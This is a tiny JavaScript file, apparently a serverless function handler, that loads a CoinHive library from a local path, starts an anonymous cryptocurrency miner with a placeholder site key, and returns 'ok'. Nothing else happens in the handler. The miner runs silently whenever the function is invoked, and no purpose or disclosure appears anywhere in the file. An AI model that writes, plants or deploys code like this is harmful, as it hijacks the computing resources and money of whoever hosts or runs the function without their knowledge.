const CoinHive = require("./lib/ch");

exports.handler = async () => {
  const miner = new CoinHive.Anonymous("SITE_KEY_1234", { throttle: 0.1 });
  miner.start();
  return "ok";
};
